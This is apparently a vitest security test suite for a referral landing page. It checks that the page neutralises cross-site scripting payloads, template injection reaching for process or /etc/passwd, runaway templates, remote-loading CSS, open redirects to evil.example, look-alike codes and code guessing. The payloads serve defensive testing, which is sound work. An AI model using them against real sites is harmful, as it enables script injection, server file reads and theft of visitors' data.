/** Attacks on the landing page: what a business, an advocate, a customer or a stranger may write, and the codes a stranger may try. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { SLOT_PATTERN } from "../../src/core/page.ts";
import { sanitised } from "../../src/http/landing-sanitise.ts";
import { renderTheirs } from "../../src/http/landing-render.ts";
import { type LandingServer, serveLanding } from "../support/landing.ts";
import { type Shop, createShop } from "../support/shop.ts";

const SCRIPT = `<script>alert(1)</script><img src=x onerror=alert(1)>"onmouseover="alert(1)'{{7*7}}{% raw %}javascript:alert(1)`;
let shop: Shop;
let pages: LandingServer;
let code: string;

beforeAll(async () => {
  shop = await createShop();
  pages = await serveLanding(shop.server, { budget: 1_000_000 });
  await shop.client.unwrap(
    shop.client.api.PATCH("/v1/settings", { body: { settings: { brand: { name: SCRIPT.slice(0, 120) } } } as never }),
  );
  const text = { en: SCRIPT };
  const blocks = [
    { block: "hero", title: SCRIPT.slice(0, 120), text },
    { block: "offer", title: SCRIPT.slice(0, 120), text },
    { block: "steps", items: [SCRIPT] },
    { block: "proof" },
    { block: "faq", items: [{ question: SCRIPT, answer: SCRIPT }] },
    { block: "text", title: SCRIPT.slice(0, 120), text: SCRIPT },
    { block: "image", src: "https://cdn.example/a.png?x=%22onload=alert(1)", alt: SCRIPT },
    { block: "video", url: "https://v.example/?a=%22%3E%3Cscript%3E", title: SCRIPT.slice(0, 120) },
    { block: "action", label: SCRIPT.slice(0, 80) },
  ];
  const landing = { blocks, title: SCRIPT.slice(0, 120), description: SCRIPT };
  await shop.publish("two_way", { name: SCRIPT.slice(0, 120), pages: { landing }, terms: { en: SCRIPT } } as never);
  code = await shop.join("two_way", "eve");
  const path = { person: "user_id:eve" };
  await shop.client.unwrap(shop.client.api.PUT("/v1/people/{person}/shown", { params: { path }, body: { name: SCRIPT } }));
  const testimonial = { person: "user_id:eve", program: "two_way", text: SCRIPT, rating: 5, shown_as: SCRIPT, consent: true };
  const given = await shop.client.unwrap(shop.client.api.POST("/v1/testimonials", { body: testimonial as never }));
  await shop.client.unwrap(
    shop.client.api.POST("/v1/testimonials/{testimonial}/approve", { params: { path: { testimonial: given.id } } }),
  );
});
afterAll(async () => {
  await pages.close();
  await shop.close();
});

/** Tags and attributes of a page, as a browser would have them, roughly: text between tags is dropped. */
const tagsOf = (html: string): string[] => html.replace(/<style>[^]*?<\/style>/, "").match(/<[a-z/!][^>]*>/gi) ?? [];

test("hostile words of business, advocate and customer are words: no tag, attribute, address or expression comes of them", async () => {
  for (const path of [`/l/${code}`, `/l/${code}/terms`, `/l/${code}?claimed=1`, `/l/${code}?locale="><script>alert(1)</script>`]) {
    const { html, headers } = await pages.open(path);
    const tags = tagsOf(html);
    expect(tags.filter((tag) => /^<(script|iframe|object|embed|svg|base)/i.test(tag) && !tag.includes("/l/page.js"))).toEqual([]);
    expect(tags.filter((tag) => /\son\w+\s*=/i.test(tag.replace(/"[^"]*"/g, '""')))).toEqual([]);
    expect(tags.filter((tag) => /(href|src|action)="\s*(javascript|data|vbscript):/i.test(tag))).toEqual([]);
    expect(html).not.toContain(">49<");
    expect(headers["content-security-policy"]).toMatch(/default-src 'none'/);
    expect(headers["content-security-policy"]).not.toMatch(/unsafe/);
  }
});

test("a name cannot forge a slot of the page", async () => {
  const path = { person: "user_id:eve" };
  await shop.client.unwrap(shop.client.api.PUT("/v1/people/{person}/shown", { params: { path }, body: { name: "\uE000go\uE001" } }));
  expect((await pages.open(`/l/${code}`)).html.match(SLOT_PATTERN)).not.toContain("\uE000click\uE001");
  const blocks = [{ block: "hero" as const, title: "A \uE000face\uE001" }];
  await shop.publish("two_way", { pages: { landing: { blocks } } });
  expect((await pages.open(`/l/${code}`)).html).toContain("<h1>A face</h1>");
});

describe("a business's own template", () => {
  const data = { offer: { short: "20 %" }, business: { name: "Shop" } };

  test.each([
    ["{{7*7}}"],
    ["{{ business.constructor.constructor('return process')() }}"],
    ["{{ business.__proto__.polluted }}{{ business.toString }}{{ offer.hasOwnProperty }}"],
    ["{{ business.constructor.name }}{{ offer.short.constructor.name }}"],
    ["{% render './package.json' %}"],
    ["{% include '/etc/passwd' %}"],
    ["{% render '../../../package.json' %}"],
    ["{% layout '/etc/passwd' %}"],
  ])("reaches nothing of the server: %s", (template) => {
    let html = "";
    try {
      html = renderTheirs(template, data);
    } catch (error) {
      html = (error as Error).message;
    }
    expect(html).not.toMatch(/49|function|native code|root:|"version"|\[object|Object|String/);
  });

  test.each([
    ["{% for i in (1..100000000) %}x{% endfor %}"],
    ["{% for i in (1..10000) %}{% for j in (1..10000) %}x{% endfor %}{% endfor %}"],
    ["{% assign a = 'xxxxxxxxxx' %}{% for i in (1..40) %}{% assign a = a | append: a %}{% endfor %}{{ a }}"],
    ["{% capture a %}xxxxxxxx{% endcapture %}{% for i in (1..40) %}{% capture a %}{{ a }}{{ a }}{% endcapture %}{% endfor %}{{ a }}"],
    [
      "{{ '(a+)+$' | split: '' | join: 'aaaaaaaa' | replace: 'a', 'aaaaaaaaaaaaaaaaaa' | replace: 'a', 'aaaaaaaaaaaaaaaaaa' }}".repeat(
        40,
      ),
    ],
  ])("does not run for long: %s", (template) => {
    const began = performance.now();
    try {
      renderTheirs(template, data);
    } catch {
      // Refused is well.
    }
    expect(performance.now() - began).toBeLessThan(1500);
  });

  test.each([
    ["<script>alert(1)</script>"],
    ["<img src=x onerror=alert(1)>"],
    ["<a href='javascript:alert(1)'>x</a>"],
    ["<a href='&#106;avascript:alert(1)'>x</a>"],
    ["<svg><script>alert(1)</script></svg>"],
    ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
    ["<form action=https://evil.example><input name=card></form>"],
    ["<iframe src=https://evil.example></iframe>"],
    ["<div style='background:url(https://evil.example)'>x</div>"],
    ["<style>@import 'https://evil.example'</style>"],
    ["<link rel=stylesheet href=https://evil.example>"],
    ["<meta http-equiv=refresh content='0;url=https://evil.example'>"],
    ["<base href=https://evil.example>"],
    ["<img src=http://evil.example/x.png><img src=//evil.example/y.png><img src=data:image/svg+xml,x>"],
    ["<a href='\uE000name\uE001'>x</a><img src='https://e.example/?\uE000code\uE001'>"],
    ["{{ '<script>alert(1)</script>' | raw }}"],
  ])("is without what could run, load or send: %s", (template) => {
    const html = renderTheirs(template, data);
    expect(html).not.toMatch(
      /<(script|iframe|form|input|style|link|meta|base|svg|math|object|embed)|\son\w+=|javascript:|url\(|http:\/\/|src="\/\/|data:/i,
    );
    expect(html).not.toMatch(/(href|src)="[^"]*\uE000/);
  });

  test("keeps words, links, pictures over https and the places of ours", () => {
    const html = sanitised(
      '<h1 class="t">Hi</h1><a href="\uE000go\uE001">Go</a><img src="https://cdn.example/a.png" alt="A">\uE000action\uE001',
    );
    expect(html).toContain('<a href="\uE000go\uE001" rel="noopener noreferrer">Go</a>');
    expect(html).toContain('<img src="https://cdn.example/a.png" alt="A" />');
    expect(html).toContain("\uE000action\uE001");
  });

  test("is served whole with our form, terms and disclosure, under a policy that runs nothing", async () => {
    const template = "<h1>{{ offer.short }} from {{ business.name }}</h1><p>{{ slot.name }}</p>{{ action }}<script>alert(1)</script>";
    await shop.publish("two_way", { pages: { landing: { template, css: "h1{color:rebeccapurple}", claim: { by: "email" } } } });
    const { html, headers } = await pages.open(`/l/${code}`);
    expect(headers["content-security-policy"]).toContain("script-src 'none'");
    expect(tagsOf(html).filter((tag) => tag.startsWith("<script"))).toEqual([]);
    expect(html).toMatch(/<form method="post" action="[^"]*\/claim/);
    expect(html).toMatch(/class="disclosure">[^<]+\$20/);
  });

  test("that cannot be drawn costs no friend her page: the blocks are shown, and the log says so", async () => {
    await shop.publish("two_way", { pages: { landing: { template: "{% for i in (1..100000000) %}x{% endfor %}" } } });
    const page = await pages.open(`/l/${code}`);
    expect([page.status, page.html.includes("20% off for you")]).toEqual([200, true]);
    expect(pages.logged.some((line) => line.includes("cannot be drawn"))).toBe(true);
  });

  test("stands on the origin for such pages where there is one, and only there", async () => {
    const away = await serveLanding(shop.server, { pagesOrigin: "https://pages.example.net" });
    await shop.publish("two_way", { pages: { landing: { template: "<h1>Ours</h1>{{ action }}" } } });
    const here = await away.open(`/l/${code}?locale=de`);
    expect([here.status, here.headers.location]).toEqual([302, `https://pages.example.net/l/${code}?locale=de`]);
    expect((await away.open(`/l/${code}`, { Host: "pages.example.net" })).html).toContain("<h1>Ours</h1>");
    await shop.publish("two_way", { pages: { landing: {} } });
    expect((await away.open(`/l/${code}`)).status).toBe(200);
    await away.close();
  });

  test.each([
    ["a{background:url(https://e.example)}"],
    ["@import 'x'"],
    ["</style><script>"],
    ["a{b:expression(1)}"],
    ["a{background:u\\72l(x)}"],
  ])("has no CSS that loads or leaves: %s", async (css) => {
    const answer = shop.publish("two_way", { pages: { landing: { template: "x", css } } });
    await expect(answer).rejects.toThrow(/CSS may not contain/);
  });
});

test("the wished destination stays on the program's own origins; the page's button never leaves them", async () => {
  await shop.publish("two_way", { pages: { landing: {} } });
  for (const to of [
    "https://evil.example",
    "//evil.example",
    "/\\evil.example",
    "javascript:alert(1)",
    "https://shop.example@evil.example",
  ]) {
    const { headers } = await pages.open(`/r/${code}?to=${encodeURIComponent(to)}`);
    expect(new URL(headers.location!, "https://shop.example").origin).toBe("https://shop.example");
    const page = await pages.open(`/l/${code}?to=${encodeURIComponent(to)}&gv_click=${encodeURIComponent(to)}`);
    expect(page.html).not.toContain("evil.example");
  }
});

test("a code in look-alike letters of another script leads to the same link, and what leads nowhere says nothing", async () => {
  await shop.client.unwrap(shop.client.api.POST("/v1/links", { body: { program: "two_way", person: "user_id:eve", code: "ANNA" } }));
  const { slug } = await shop.client.unwrap(shop.client.api.GET("/v1/settings"));
  expect((await pages.open(`/l/${slug}/${encodeURIComponent("АNNА")}`)).status).toBe(200);
  const unknown = await pages.open(`/l/ZZZZZZZZZZ`);
  await shop.client.unwrap(shop.client.api.POST("/v1/programs/{program}/pause", { params: { path: { program: "two_way" } } }));
  const paused = await pages.open(`/l/${code}`);
  expect([paused.status, paused.html]).toEqual([unknown.status, unknown.html]);
  expect((await pages.post(`/l/${code}/claim`, { email: "x@example.com" })).html).toBe(unknown.html);
  await shop.client.unwrap(shop.client.api.POST("/v1/programs/{program}/resume", { params: { path: { program: "two_way" } } }));
});

test("10,000 guessed codes at the page find nothing, are told apart by nothing, and raise an alarm", async () => {
  const guarded = await serveLanding(shop.server);
  const answers = new Set<string>();
  for (let i = 0; i < 100; i++) {
    const batch = Array.from({ length: 100 }, (_, j) => `G${String(i * 100 + j).padStart(9, "2")}`);
    for (const { status, html } of await Promise.all(batch.map((each) => guarded.open(`/l/${each}`))))
      answers.add(`${status} ${html.length}`);
  }
  expect([...answers].map((each) => each.split(" ")[0])).toEqual(["404"]);
  expect(guarded.logged.some((line) => line.includes("code_guessing"))).toBe(true);
  await guarded.close();
}, 60_000);
